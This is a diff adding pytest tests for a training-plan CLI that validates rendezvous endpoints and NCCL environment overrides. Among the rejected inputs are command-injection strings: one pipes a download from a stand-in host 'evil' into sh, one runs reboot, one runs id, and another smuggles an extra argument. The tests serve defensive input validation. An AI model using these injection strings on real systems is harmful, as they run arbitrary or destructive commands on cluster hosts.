@@ -13,7 +13,7 @@ from typer.testing import CliRunner
 from seedance_tasks.cli import app
 from seedance_tasks.errors import ConfigError, UsageError
 from seedance_tasks.training import envvars
-from seedance_tasks.training.plan import apply_rank_binding, load_profiles, make_plan, nic_transport_of
+from seedance_tasks.training.plan import _load, apply_rank_binding, load_profiles, make_plan, nic_transport_of
 from seedance_tasks.training.topology import parse_topologies
 from tests.conftest import DATA
 
@@ -291,3 +291,45 @@ def test_cli_plan_on_a_malformed_numa_cell_is_an_error_line_not_an_internal_erro
     text = " ".join(result.output.split())
     assert f"error: {bad}:4: NUMA Affinity '{cell}' of GPU0 is not a NUMA node list" in text
     assert "hint:" in result.output and "Traceback" not in result.output and "unexpected" not in result.output
+
+
+@pytest.mark.parametrize("endpoint", ["node-0.cluster:29500", "10.0.0.7:29500", "[fd00::1]:29500", "[fe80::1%eth0]:29500", "head",
+                                      "HOST:29500"])
+def test_rendezvous_endpoints_of_every_form_are_taken(endpoint):
+    assert f"--rdzv-endpoint={endpoint}" in make_plan(None, nodes=2, rdzv_endpoint=endpoint)["command"]
+
+
+@pytest.mark.parametrize("endpoint", ["h:1; curl evil | sh", "$(reboot):29500", "n0:29500 --nnodes=9", "n0:`id`",
+                                      "n0:0", "n0:99999", "-n0:29500", "n0:29500\n"])
+def test_a_rendezvous_endpoint_that_is_not_host_port_is_refused_before_it_reaches_the_command(endpoint):
+    with pytest.raises(UsageError, match="is not HOST:PORT") as caught:
+        make_plan(None, nodes=2, rdzv_endpoint=endpoint)
+    assert caught.value.hint
+    shown = CliRunner().invoke(app, ["train", "plan", "--nodes", "2", "--rdzv-endpoint", endpoint])
+    assert shown.exit_code == 2 and "is not HOST:PORT" in shown.output and "Traceback" not in shown.output
+
+
+
+@pytest.mark.parametrize("value, problem", [
+    ("eth0\x00", "control characters"), ("eth0\nNCCL_DEBUG=TRACE", "control characters"),
+    ({"a": 1}, "a dict is not a value"), (["eth0"], "a list is not a value"),
+])
+def test_an_override_value_that_no_environment_can_hold_is_refused(value, problem):
+    with pytest.raises(UsageError, match=problem) as caught:
+        make_plan(None, backend="gloo", overrides={"NCCL_SOCKET_IFNAME": value})
+    assert "NCCL_SOCKET_IFNAME" in caught.value.message
+
+
+def test_boolean_overrides_and_profile_values_are_1_or_0_as_nccl_parses_flags(tmp_path):
+    # NCCL reads "True" as 0: a YAML/JSON true must reach it as 1
+    plan = make_plan(None, backend="gloo", overrides={"NCCL_IB_DISABLE": True, "NCCL_P2P_DISABLE": False,
+                                                       "NCCL_IB_TIMEOUT": 22})
+    assert {key: plan["env"][key] for key in ("NCCL_IB_DISABLE", "NCCL_P2P_DISABLE", "NCCL_IB_TIMEOUT")} == {
+        "NCCL_IB_DISABLE": "1", "NCCL_P2P_DISABLE": "0", "NCCL_IB_TIMEOUT": "22"}
+    path = tmp_path / "profiles.yaml"
+    path.write_text("common:\n  nccl: {NCCL_CUMEM_ENABLE: false}\nprofiles:\n  mine:\n"
+                    "    match: {gpus: none}\n    env: {NCCL_IB_DISABLE: yes}\n")
+    mine = make_plan(None, backend="gloo", profiles_file=path)
+    assert mine["profile"]["name"] == "mine" and mine["env"]["NCCL_IB_DISABLE"] == "1"
+    assert load_profiles(path)["mine"].env == {"NCCL_IB_DISABLE": "1"}
+    assert _load(str(path))[1] == {"nccl": {"NCCL_CUMEM_ENABLE": "0"}}  # what nccl plans start from
